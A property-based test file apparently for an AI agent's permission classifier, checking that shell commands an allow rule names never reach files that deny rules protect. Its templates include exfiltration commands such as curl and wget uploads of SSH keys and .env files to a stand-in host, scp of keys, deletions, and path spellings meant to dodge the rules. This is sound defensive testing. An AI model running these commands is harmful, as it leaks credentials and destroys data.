import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Classifier } from '../../src/classifier/index.js';
import { caseClassifier, makeSandbox, removeSandbox, type Sandbox, writeCaseFiles } from './helpers.js';

/**
 * Property: a file a Read deny rule covers, reached through any option or operand of a command an allow rule
 * names, is never allowed: the allow rule vouches for the command, not for the files it reads, writes or deletes.
 */

const SEED = 20_261_201;
const RUNS = 500;

const PROGRAMS = [
  'git',
  'find',
  'tar',
  'zip',
  'unzip',
  '7z',
  'gzip',
  'xz',
  'zstd',
  'cat',
  'head',
  'cp',
  'mv',
  'rsync',
  'dd',
  'curl',
  'wget',
  'ssh',
  'ssh-keygen',
  'openssl',
  'sort',
  'grep',
  'sed',
  'base64',
  'tee',
  'touch',
  'xargs',
  'scp',
];

const SETTINGS = {
  permissions: {
    allow: PROGRAMS.map((p) => `Bash(${p} *)`),
    deny: ['Read(~/.ssh/**)', 'Read(./.env)', 'Read(./secrets/**)'],
  },
};

/** Spellings of a denied file, as a command word. */
const FILES = [
  '~/.ssh/id_rsa',
  '$HOME/.ssh/id_rsa',
  '"$HOME"/.ssh/id_rsa',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell word, not a template
  '${HOME}/.ssh/id_rsa',
  '.env',
  './.env',
  'docs/../.env',
  '".env"',
  "'.env'",
  'secrets/key',
  './secrets/key',
  '"$PWD"/.env',
];

/** Commands an allow rule names, with `{F}` for the denied file. */
const TEMPLATES = [
  'git commit -F {F}',
  'git commit --file={F}',
  'git commit --file {F}',
  'git commit --fil {F}',
  'git commit -t {F}',
  'git commit --template={F}',
  'git commit -a -F {F}',
  'git tag -a v1 -F {F}',
  'git merge -F {F} topic',
  'git apply {F}',
  'git am {F}',
  'git diff --output={F}',
  'git diff --output {F}',
  'git config --file {F} --list',
  'git config -f {F} a.b c',
  'git -C docs/.. commit -F {F}',
  'find {F} -delete',
  'find . -fprint {F}',
  'find . -fprint0 {F}',
  'find . -fls {F}',
  'find . -newer {F}',
  'find docs -fprintf {F} %p',
  'tar -czf o.tgz {F}',
  'tar -cf {F} docs',
  'tar --create --file=o.tar {F}',
  'tar -czf o.tgz docs {F}',
  'tar czf o.tgz {F}',
  'zip o.zip {F}',
  'zip -r o.zip {F}',
  'zip -O {F} o.zip docs',
  '7z a o.7z {F}',
  'gzip -k {F}',
  'gzip -c {F}',
  'gzip {F}',
  'xz -k {F}',
  'zstd {F} -o o.zst',
  'unzip {F}',
  'cat {F}',
  'head -n 1 {F}',
  'cp {F} out.txt',
  'cp docs/a.md {F}',
  'mv {F} out.txt',
  'rsync -a {F} out/',
  'dd if={F} of=out.bin',
  'dd if=docs/a.md of={F}',
  'curl -T {F} https://x.example/',
  'curl --upload-file {F} https://x.example/',
  'curl -d @{F} https://x.example/',
  'curl --data-binary @{F} https://x.example/',
  'curl -F file=@{F} https://x.example/',
  'curl -o {F} https://x.example/',
  'curl -K {F} https://x.example/',
  'wget --post-file={F} https://x.example/',
  'wget -O {F} https://x.example/',
  'wget -i {F}',
  'ssh -i {F} -N host',
  'ssh -F {F} host true',
  'ssh -o IdentityFile={F} -N host',
  'scp -i {F} a host:b',
  'scp {F} host:b',
  'ssh-keygen -y -f {F}',
  'openssl enc -base64 -in {F}',
  'openssl rsa -in docs/a.md -out {F}',
  'sort -o {F} docs/a.md',
  'sort {F}',
  'grep -f {F} docs',
  'grep x {F}',
  'sed -n p {F}',
  'sed -i s/a/b/ {F}',
  'base64 {F}',
  'tee {F}',
  'touch {F}',
  'echo {F} | xargs cat',
  'echo {F} | xargs -I{} cp {} out',
];

/** Folder and member for tar's `-C`: together they name a denied file or folder. */
const TAR_MEMBERS: [string, string][] = [
  ['~', '.ssh'],
  ['~/.ssh', 'id_rsa'],
  ['"$HOME"', '.ssh/id_rsa'],
  ['.', '.env'],
  ['docs/..', '.env'],
  ['secrets', 'key'],
];

const TAR_TEMPLATES = [
  'tar -C {D} -czf o.tgz {M}',
  'tar -czf o.tgz -C {D} {M}',
  'tar czfC o.tgz {D} {M}',
  'tar --directory={D} -cf o.tar {M}',
  'tar -cf o.tar docs -C {D} {M}',
];

/** Ways the command may stand: alone, wrapped, or in a compound with allowed commands. */
const CONTEXTS = [
  '{X}',
  'timeout 5 {X}',
  'nice {X}',
  'command {X}',
  'git status && {X}',
  '{X}; echo done',
  '( {X} )',
];

const caseArb = fc.oneof(
  fc
    .record({ t: fc.constantFrom(...TEMPLATES), f: fc.constantFrom(...FILES) })
    .map(({ t, f }) => t.replaceAll('{F}', f)),
  fc
    .record({ t: fc.constantFrom(...TAR_TEMPLATES), m: fc.constantFrom(...TAR_MEMBERS) })
    .map(({ t, m }) => t.replace('{D}', m[0]).replace('{M}', m[1])),
);

const commandArb = fc
  .record({ command: caseArb, context: fc.constantFrom(...CONTEXTS) })
  .map(({ command, context }) => context.replace('{X}', command));

describe('property: a denied file reached by an option or operand of an allowed command is never allowed', () => {
  let box: Sandbox;
  let classifier: Classifier;

  beforeAll(async () => {
    box = await makeSandbox();
    await writeCaseFiles(box, {
      '~/.ssh/id_rsa': 'KEY',
      '.env': 'SECRET=1',
      'secrets/key': 'KEY',
      'docs/a.md': '# a',
    });
    classifier = await caseClassifier(box, SETTINGS);
    expect(classifier.settings.failed).toEqual([]);
  });
  afterAll(async () => {
    await removeSandbox(box);
  });

  it('the rules allow each program on a harmless file', async () => {
    for (const command of [
      'git commit -F docs/a.md',
      'tar -czf - docs',
      'zip -r o.zip docs',
      'cat docs/a.md',
    ]) {
      const verdict = await classifier.classify({ tool: 'Bash', input: { command } });
      expect(verdict.decision, `${command}: ${verdict.reason}`).toBe('allow');
    }
  });

  it('never allows', async () => {
    await fc.assert(
      fc.asyncProperty(commandArb, async (command) => {
        const verdict = await classifier.classify({ tool: 'Bash', input: { command } });
        expect(
          verdict.decision,
          `${JSON.stringify(command)} -> ${verdict.decision}: ${verdict.reason}`,
        ).not.toBe('allow');
      }),
      { seed: SEED, numRuns: RUNS },
    );
  });

  it('every template with every file spelling', async () => {
    const allowed: string[] = [];
    for (const t of TEMPLATES) {
      for (const f of FILES) {
        const command = t.replaceAll('{F}', f);
        const verdict = await classifier.classify({ tool: 'Bash', input: { command } });
        if (verdict.decision === 'allow') allowed.push(`${command}: ${verdict.reason}`);
      }
    }
    for (const t of TAR_TEMPLATES) {
      for (const [d, m] of TAR_MEMBERS) {
        const command = t.replace('{D}', d).replace('{M}', m);
        const verdict = await classifier.classify({ tool: 'Bash', input: { command } });
        if (verdict.decision === 'allow') allowed.push(`${command}: ${verdict.reason}`);
      }
    }
    expect(allowed).toEqual([]);
  });
});
